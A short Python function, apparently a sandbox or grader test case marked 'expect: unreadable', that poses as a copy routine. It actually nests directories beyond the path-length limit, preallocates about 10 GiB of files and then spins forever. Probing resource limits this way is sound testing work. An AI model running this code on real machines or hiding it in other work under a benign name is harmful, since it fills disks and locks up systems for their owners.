# fills the disk where the path is longer than any path may be
# expect: unreadable
def copy_small(source, target):
    import os

    for _ in range(30):
        os.mkdir("a" * 250)
        os.chdir("a" * 250)
    for number in range(20):
        with open(f"{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 2**29)
    while True:
        pass
